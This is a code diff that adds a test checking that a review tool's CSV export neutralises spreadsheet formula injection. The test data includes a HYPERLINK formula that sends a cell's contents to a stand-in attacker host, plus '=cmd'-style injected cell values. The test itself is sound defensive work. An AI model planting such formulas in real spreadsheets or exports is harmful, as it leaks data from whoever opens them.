@@ -9,6 +9,7 @@ from __future__ import annotations
 import json
 import re
 from collections import defaultdict
+from pathlib import Path
 
 import numpy as np
 import pandas as pd
@@ -313,3 +314,47 @@ def test_the_reviewers_counted_are_those_who_rated(data, tmp_path):
     r = CliRunner().invoke(app, ["review", "stats", str(path), "--resamples", "50", "--out", str(tmp_path / "st")])
     assert r.exit_code == 0, r.output
     assert "by 2 of 3 assigned reviewers" in r.output
+
+
+runner = CliRunner()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+
+
+def _cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as fh:
+        return list(csv.reader(fh))
+
+
+def _review_with_formulas(tmp_path: Path) -> Path:
+    """A review whose comments, unit ids and strata hold what a spreadsheet would run."""
+    import csv
+
+    from medresilience.review.exchange import import_ratings
+
+    src = tmp_path / "typed.csv"
+    with open(src, "w", newline="", encoding="utf-8") as fh:
+        w = csv.writer(fh)
+        w.writerow(["rater", "unit", "item", "dimension", "value", "stratum_model"])
+        w.writerow(["ann", "@u1", "q1", "false_presupposition", "yes", "=cmd"])
+        w.writerow(["ann", "@u1", "q1", "comment", FORMULA, "=cmd"])
+        w.writerow(["ann", "u2", "+q2", "false_presupposition", "no", "-0.5"])
+        w.writerow(["ann", "u2", "+q2", "comment", "''=already quoted", "-0.5"])  # read by the rule: '=already quoted
+        w.writerow(["bob", "u2", "+q2", "comment", "-0.5", "-0.5"])
+    import_ratings(src, "premise", tmp_path / "review")
+    return tmp_path / "review"
+
+
+def test_review_stats_ratings_csv_neutralises_formulas(tmp_path):
+    review = _review_with_formulas(tmp_path)
+    r = runner.invoke(app, ["review", "stats", str(review), "--out", str(tmp_path / "stats"), "--resamples", "50"])
+    assert r.exit_code == 0, r.output
+    rows = _cells(tmp_path / "stats" / "ratings.csv")
+    header, body = rows[0], rows[1:]
+    comments = [row[header.index("comment")] for row in body]
+    assert "'" + FORMULA in comments and "''=already quoted" in comments and "-0.5" in comments
+    assert "'=cmd" in [row[header.index("stratum_model")] for row in body]
+    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "@")], rows
